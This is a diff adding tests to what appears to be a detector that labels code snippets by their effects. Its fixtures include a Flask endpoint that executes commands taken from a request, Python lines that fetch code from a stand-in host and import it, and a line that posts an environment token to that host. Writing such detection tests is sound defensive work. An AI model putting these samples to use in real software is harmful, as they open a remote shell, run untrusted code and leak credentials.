@@ -30,6 +30,37 @@ const everyday: [string, string][] = [
   ],
 ];
 
+const RECEIVES = `from flask import Flask, request
+import os
+app = Flask(__name__)
+@app.route('/run')
+def run():
+    return os.popen(request.args['c']).read()`;
+
+test('a new file that runs what it receives gives a shell to others', () => {
+  expect(effectsOf(RECEIVES, true)).toEqual(['reverse-shell']);
+  expect(effectsOf(RECEIVES, false)).toEqual([]);
+});
+
+test.each([
+  ['open("m.py", "w").write(requests.get("https://x.example/m").text)\nimport m', true],
+  ['open("/tmp/m.py", "w").write(requests.get("https://x.example/m").text)\nimport m', true],
+  ['open("m.csv", "w").write(requests.get("https://x.example/m").text)\nimport m', false],
+])('%p loads code from the network: %p', (code, loads) => {
+  const { effects } = readShell(`python3 - <<'E'\nimport requests\n${code}\nE`, world);
+  expect(effects.some((effect) => effect.code === 'fetch-and-run')).toBe(loads);
+});
+
+test('a token that logs in is not sent away', () => {
+  const sends = (code: string) =>
+    readShell(`python3 - <<'E'\nimport os, requests\n${code}\nE`, world).effects.some(
+      ({ kind }) => kind === 'send',
+    );
+  const token = "os.environ['TOKEN']";
+  expect(sends(`requests.get('https://x.example', headers={'Authorization': ${token}})`)).toBe(false);
+  expect(sends(`requests.post('https://x.example', data=${token})`)).toBe(true);
+});
+
 test.each(everyday)('%p counts in a new file, not in one that people have seen', (code, expected) => {
   expect(effectsOf(code, true).join()).toContain(expected);
   expect(effectsOf(code, false)).toEqual([]);
